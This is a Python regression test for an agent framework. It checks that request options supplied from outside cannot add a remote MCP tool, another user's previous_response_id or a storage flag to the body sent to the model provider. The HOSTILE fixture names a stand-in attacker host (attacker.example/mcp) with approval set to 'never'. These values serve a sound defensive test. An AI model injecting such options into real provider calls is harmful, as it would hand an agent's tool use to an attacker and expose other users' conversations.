"""A command from outside sets only the sampling and length options of its model call.

A decoded command's ``request_options`` go into the provider's request body.
Only ``model`` was refused there, so a request could add what the application
never asked the provider for, on its account: a tool of the provider's own
that calls a server the request names (OpenAI's remote MCP tool, its
``server_url``), a stored conversation to continue (``previous_response_id``),
storing this one (``store``). The server runs in the test's process
(`conftest.in_process`), its branch's model a real loopback provider.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from pride import Branch, Session, iModel
from pride.testing import openai_server

from .conftest import TOKEN, in_process

HOSTILE: dict[str, Any] = {
    "tools": [
        {
            "type": "mcp",
            "server_label": "x",
            "server_url": "https://attacker.example/mcp",
            "require_approval": "never",
        }
    ],
    "previous_response_id": "resp_of_another_user",
    "store": True,
}


@pytest.mark.parametrize("option", sorted(HOSTILE))
async def test_a_request_cannot_add_to_the_providers_request(option: str) -> None:
    """Each option beyond the sampling and length controls is refused (400
    InvalidMessage naming it), and nothing reaches the provider; before, each went
    into the body sent to it (the loopback provider received it). Sampling options
    still pass."""
    async with openai_server(lambda body: "hi") as provider:
        model = iModel("openai/m", base_url=provider.base_url, api_key="k")
        async with Session("options") as session:
            await session.spawn(Branch(name="agent", chat_model=model))
            async with in_process(session) as (_, url):
                headers = {"Authorization": f"Bearer {TOKEN}"}
                async with httpx.AsyncClient(base_url=url, headers=headers) as http:
                    command = {
                        "type": "Chat",
                        "instruction": "hi",
                        "request_options": {option: HOSTILE[option], "temperature": 0.5},
                    }
                    refused = await http.post("/v1/branches/agent/ask", json={"command": command})
                    del command["request_options"][option]
                    allowed = await http.post("/v1/branches/agent/ask", json={"command": command})
    assert refused.status_code == 400, refused.text
    error = refused.json()["error"]
    assert error["type"] == "InvalidMessage"
    assert f"Chat.request_options.{option}: " in error["message"]
    assert allowed.status_code == 200, allowed.text
    (sent,) = [request.body for request in provider.requests]
    assert option not in sent and sent["temperature"] == 0.5
